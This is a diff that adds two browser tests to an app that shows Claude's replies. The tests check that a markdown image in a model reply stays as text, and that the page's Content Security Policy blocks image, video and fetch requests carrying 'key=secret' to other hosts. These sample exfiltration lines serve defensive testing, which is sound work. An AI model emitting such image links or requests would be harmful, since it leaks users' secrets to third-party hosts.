@@ -131,3 +131,32 @@ def test_a_failed_run_says_why_and_goes_to_claude(open_page, lab):
     sent = lab.asked_claude()[-1]["body"]["messages"][-1]["content"][0]["text"]
     assert "decode_error" in sent
     assert "the tables do not fit" in sent
+
+
+def test_a_picture_in_a_reply_is_text_and_asks_no_other_host(open_page, lab):
+    """The page's fixture fails where anything left this machine."""
+    page, _ = open_draft(open_page, lab, PLAIN)
+    lab.answer_next("It looks so: ![the curve](http://pictures.example/p.png?key=secret) and that is all.")
+    say(page, "Show me")
+    page.get_by_text("and that is all.").first.wait_for()
+    settled(page)
+    assert page.get_by_text("![the curve]").count() == 1
+
+
+def test_the_policy_stops_what_a_page_would_ask_of_another_host(open_page, lab):
+    """Should a text be drawn as a picture after all. The request is refused before it is made."""
+    page = open_page(lab, expect=("Content Security Policy",))
+    page.evaluate(
+        """() => {
+            window.refused = [];
+            document.addEventListener("securitypolicyviolation", e => window.refused.push(e.effectiveDirective));
+            for (const kind of ["img", "video"]) {
+                const element = document.createElement(kind);
+                element.src = "http://127.0.0.1:9/p?key=secret";
+                document.body.append(element);
+            }
+            fetch("http://127.0.0.1:9/p").catch(() => {});
+        }"""
+    )
+    page.wait_for_function("() => window.refused.length === 3")
+    assert sorted(page.evaluate("() => window.refused")) == ["connect-src", "img-src", "media-src"]
